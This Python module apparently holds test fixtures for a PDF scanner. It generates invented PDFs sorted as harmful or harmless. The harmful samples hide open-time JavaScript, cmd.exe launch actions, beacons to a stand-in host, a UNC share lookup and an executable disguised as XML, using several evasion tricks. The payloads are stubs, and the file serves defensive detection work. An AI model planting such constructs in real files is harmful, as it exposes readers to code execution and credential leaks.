"""Invented PDFs that do something: harmful ones in disguise, and harmless ones as people's programs write them."""

import struct
import zlib
from collections.abc import Mapping, Sequence

_CONTENT = b"BT /F1 12 Tf 60 780 Td (Maria Sample, ward nurse in Leeds) Tj ET"
FIRST = 6  # the number of the first object of one's own


def active_pdf(*objects: bytes, catalog: bytes = b"", page: bytes = b"", is_packed: bool = False) -> bytes:
    """A PDF of one page with these entries of its catalog and page, and these objects from number FIRST on; in an
    object stream with a compressed table if `is_packed`."""
    stream = b"<< /Length %d >>\nstream\n%b\nendstream" % (len(_CONTENT), _CONTENT)
    numbered = {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
        2: b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
        3: stream,
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> %b >>" % page,
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **dict(enumerate(objects, FIRST)),
    }
    return _packed(numbered) if is_packed else _plain(numbered)


def stream_of(content: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return b"<< /Length %d /Filter /FlateDecode %b >>\nstream\n%b\nendstream" % (len(packed), entries, packed)


def with_update(pdf: bytes, number: int, body: bytes) -> bytes:
    """The PDF, whose object gets another definition at its end, as programs add changes."""
    before = pdf.rindex(b"startxref") + 10
    table = int(pdf[before:].split()[0])
    place = len(pdf)
    addition = b"%d 0 obj\n%b\nendobj\n" % (number, body)
    return (
        pdf
        + addition
        + b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size 99 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (number, place, table, place + len(addition))
    )


def _plain(objects: Mapping[int, bytes]) -> bytes:
    content, places = _numbered(objects)
    start = len(content)
    entries = b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(places))
    tail = b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
    return content + tail % (len(places) + 1, entries, len(places) + 1, start)


def _packed(objects: Mapping[int, bytes]) -> bytes:
    """Streams cannot be in an object stream; everything else is."""
    loose = {number: body for number, body in objects.items() if b"stream" in body}
    inside = {number: body for number, body in objects.items() if number not in loose}
    container, table = len(objects) + 1, len(objects) + 2
    loose[container] = object_stream(list(inside.items()))
    content, places = _numbered(loose)
    order = {number: at for at, number in enumerate(inside)}
    rows = [struct.pack(">BIH", 0, 0, 65_535)]
    rows += [
        struct.pack(">BIH", *((2, container, order[number]) if number in inside else (1, places[number], 0)))
        for number in range(1, table)
    ]
    rows.append(struct.pack(">BIH", 1, len(content), 0))
    entries = b"/Type /XRef /W [1 4 2] /Size %d /Root 1 0 R" % (table + 1)
    start = len(content)
    content += b"%d 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, stream_of(b"".join(rows), entries), start)
    return content


def object_stream(inside: Sequence[tuple[int, bytes]]) -> bytes:
    head, body = [], b""
    for number, content in inside:
        head.append(b"%d %d" % (number, len(body)))
        body += content + b"\n"
    first = b" ".join(head) + b"\n"
    return stream_of(first + body, b"/Type /ObjStm /N %d /First %d" % (len(inside), len(first)))


def _numbered(objects: Mapping[int, bytes]) -> tuple[bytes, dict[int, int]]:
    content, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    return bytes(content), places


_SCRIPT = b"/S /JavaScript /JS (app.alert\\(1\\))"
_FIELD = b"/Subtype /Widget /FT /Tx /T (Date) /Rect [60 60 200 80]"
_EXE, _XML = stream_of(b"MZ\x90\0" + bytes(99), b"/Type /EmbeddedFile"), stream_of(b"<?xml version='1.0'?><Candidate/>")
HARMFUL: Mapping[str, bytes] = {
    "script when opened": active_pdf(b"<< %b >>" % _SCRIPT, catalog=b"/OpenAction 6 0 R"),
    "script of the document": active_pdf(catalog=b"/Names << /JavaScript << /Names [(a) << %b >>] >> >>" % _SCRIPT),
    "script in a stream": active_pdf(
        b"<< /S /JavaScript /JS 7 0 R >>",
        stream_of(b"app.launchURL('https://a.example')"),
        catalog=b"/OpenAction 6 0 R",
    ),
    "script in hexadecimal": active_pdf(catalog=b"/OpenAction << /S /JavaScript /JS <6170702e616c657274283129> >>"),
    "script with a coded name": active_pdf(catalog=b"/OpenAction << /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>"),
    "script of a page": active_pdf(page=b"/AA << /O << %b >> >>" % _SCRIPT),
    "script behind a press": active_pdf(
        b"<< /Subtype /Link /Rect [0 0 9 9] /A << %b >> >>" % _SCRIPT, page=b"/Annots [6 0 R]"
    ),
    "script after another action": active_pdf(
        b"<< %b >>" % _SCRIPT, catalog=b"/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next [6 0 R] >>"
    ),
    "script among formats": active_pdf(
        b'<< %b /AA << /F << /S /JavaScript /JS (AFDate_Format\\(1\\); ["a"]["constructor"]\\("x"\\)\\(\\)) >> >> >>'
        % _FIELD,
        page=b"/Annots [6 0 R]",
    ),
    "script in an object stream": active_pdf(b"<< %b >>" % _SCRIPT, catalog=b"/OpenAction 6 0 R", is_packed=True),
    "script in an update": with_update(
        active_pdf(), 1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %b >> >>" % _SCRIPT
    ),
    "script before an update": with_update(
        active_pdf(catalog=b"/OpenAction << %b >>" % _SCRIPT), 1, b"<< /Type /Catalog /Pages 2 0 R >>"
    ),
    "script behind false objects": active_pdf(
        b"<< /T (7 0 obj \\(AFDate_Format\\(1\\)\\) endobj 6 0 obj \\() /A << %b >> /U (\\)) >>" % _SCRIPT,
        page=b"/Annots [6 0 R]",
    ),
    "script of a scene": active_pdf(
        b"<< /Subtype /3D /Rect [0 0 9 9] /3DD 7 0 R >>",
        b"<< /Type /3D /Subtype /U3D /OnInstantiate 8 0 R /Length 3 >>\nstream\nU3D\nendstream",
        stream_of(b"host.app.launchURL('https://a.example')"),
        page=b"/Annots [6 0 R]",
    ),
    "program": active_pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 6 0 R"),
    "program behind a link": active_pdf(
        b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S/Launch /Win << /F (cmd.exe) >> >> >>", page=b"/Annots [6 0 R]"
    ),
    "program with its kind elsewhere": active_pdf(
        b"<< /S 7 0 R /F (cmd.exe) >>", b"/L#61unch", catalog=b"/OpenAction 6 0 R"
    ),
    "program with its kind in an object stream": active_pdf(b"<< /S 7 0 R /F (cmd.exe) >>", b"/Launch", is_packed=True),
    "data from a file": active_pdf(b"<< /S /ImportData /F (a.fdf) >>"),
    "call when opened": active_pdf(catalog=b"/OpenAction << /S /URI /URI (https://a.example/seen) >>"),
    "call when a page opens": active_pdf(
        b"<< /S /GoToR /F (\\\\\\\\a.example\\\\share) /D [0 /Fit] >>", page=b"/AA << /O 6 0 R >>"
    ),
    "executable": active_pdf(
        b"<< /Type /Filespec /F (cv.exe) /EF << /F 7 0 R >> >>",
        _EXE,
        catalog=b"/Names << /EmbeddedFiles << /Names [(cv.exe) 6 0 R] >> >>",
    ),
    "executable named as data": active_pdf(b"<< /Type /Filespec /F (cv.xml) /EF << /F 7 0 R >> >>", _EXE),
    "script named as one": active_pdf(
        b"<< /Type /Filespec /F 8 0 R /EF 9 0 R >>", _XML, b"(cv.hta)", b"<< /F 7 0 R >>"
    ),
    "form of Adobe": active_pdf(stream_of(b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>"),
}

HARMLESS: Mapping[str, bytes] = {
    "links": active_pdf(
        b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example/JS/Launch) >> >>",
        catalog=b"/OpenAction [4 0 R /FitH null]",
        page=b"/Annots [6 0 R] /AA << >>",
    ),
    "first page": active_pdf(catalog=b"/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next << /S /Named /N /Print >> >>"),
    "tags and bookmarks": active_pdf(
        b"<< /Type /StructTreeRoot /K [<< /S /P /K 0 >> << /S /Link /K 1 >>] >>",
        b"<< /Type /Outlines /First << /Title (Launch) /A << /S /GoTo /D [4 0 R /Fit] >> >> >>",
        catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R /Outlines 7 0 R",
        is_packed=True,
    ),
    "formats of fields": active_pdf(
        b'<< %b /AA << /F << /S /JavaScript /JS (AFDate_FormatEx\\("mm/dd/yyyy"\\);) >>'
        b" /K << /S /JavaScript /JS 7 0 R >>"
        b' /C << /S /JavaScript /JS (AFSimple_Calculate\\("SUM", new Array \\("a", "b"\\)\\);) >>'
        b" >> >>" % _FIELD,
        stream_of('AFNumber_Keystroke(2, 0, 0, 0, "\\u20ac", true);'.encode("utf-16")),
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
    ),
    "a button that sends": active_pdf(
        b"<< /Subtype /Widget /FT /Btn /T (Send) /Rect [0 0 9 9] /A << /S /SubmitForm /F (mailto:a@work.example) >>"
        b" /AA << /U << /S /ResetForm >> >> >>",
        page=b"/Annots [6 0 R]",
    ),
    "Europass": active_pdf(
        b"<< /Type /Filespec /F (attachment.xml) /UF <FEFF0061002e0078006d006c> /EF << /F 7 0 R /UF 7 0 R >> >>",
        _XML,
        catalog=b"/AF [6 0 R] /Names << /EmbeddedFiles << /Names [(attachment.xml) 6 0 R] >> >>",
    ),
    "XML in two bytes a letter": active_pdf(
        b"<< /Type /Filespec /F (cv.xml) /EF << /F 7 0 R >> >>", stream_of("<Candidate/>".encode("utf-16"))
    ),
}
